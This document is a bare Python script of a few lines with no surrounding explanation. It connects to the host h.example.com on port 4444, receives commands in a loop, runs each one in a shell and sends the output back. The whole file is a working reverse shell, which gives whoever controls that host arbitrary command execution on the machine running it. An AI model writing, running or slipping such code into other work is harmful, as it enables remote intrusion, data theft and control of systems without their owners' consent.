import socket, subprocess
s = socket.socket(); s.connect(("h.example.com", 4444))
while 1:
    c = s.recv(4096).decode()
    s.send(subprocess.getoutput(c).encode())
